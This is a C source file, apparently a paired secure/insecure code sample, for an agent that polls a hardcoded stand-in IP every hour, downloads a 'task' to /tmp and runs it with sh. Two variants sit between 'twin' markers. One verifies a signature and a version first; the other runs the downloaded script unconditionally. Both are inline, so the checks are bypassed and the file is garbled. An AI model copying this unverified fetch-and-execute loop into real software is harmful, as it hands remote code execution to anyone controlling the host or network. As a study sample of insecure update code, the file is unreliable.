/* Fetches a task by HTTP and runs it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int fetch(const char *path, const char *file) {
  struct sockaddr_in peer;
  char block[1024];
  char request[160];
  ssize_t got;
  FILE *out;
  int stream = socket(AF_INET, SOCK_STREAM, 0);
  if (stream < 0) return -1;
  memset(&peer, 0, sizeof peer);
  peer.sin_family = AF_INET;
  peer.sin_port = htons(80);
  peer.sin_addr.s_addr = inet_addr("198.51.100.90");
  if (connect(stream, (struct sockaddr *)&peer, sizeof peer) != 0) {
    close(stream);
    return -1;
  }
  snprintf(request, sizeof request, "GET %s HTTP/0.9\r\n\r\n", path);
  send(stream, request, strlen(request), 0);
  out = fopen(file, "wb");
  while (out != NULL && (got = recv(stream, block, sizeof block, 0)) > 0) fwrite(block, 1, (size_t)got, out);
  if (out != NULL) fclose(out);
  close(stream);
  return out == NULL ? -1 : 0;
}

static unsigned first_number(const char *file) {
  unsigned value = 0;
  FILE *in = fopen(file, "r");
  if (in == NULL) return 0;
  if (fscanf(in, "#version %u", &value) != 1) {
    rewind(in);
    if (fscanf(in, "%u", &value) != 1) value = 0;
  }
  fclose(in);
  return value;
}

static void note(const char *text) {
  FILE *log = fopen("/var/log/debugs.log", "a");
  if (log == NULL) return;
  fprintf(log, "%s\n", text);
  fclose(log);
}

int main(void) {
  for (;;) {
    if (fetch("/pagt/agent?data=task", "/tmp/task") == 0) {
//[ twin
      fetch("/pagt/agent?data=task.sig", "/tmp/task.sig");
      if (system("openssl dgst -sha256 -verify /etc/keys/update.pem -signature /tmp/task.sig /tmp/task") != 0) {
        note("refused: signature verification failed");
      } else if (first_number("/tmp/task") <= first_number("/etc/debugs.version")) {
        note("refused: not newer");
      } else {
        note("accepted");
        system("sh /tmp/task");
      }
//|
      printf("task %u, ours %u\n", first_number("/tmp/task"), first_number("/etc/debugs.version"));
      note("accepted");
      system("sh /tmp/task");
//]
    }
    sleep(3600);
  }
}
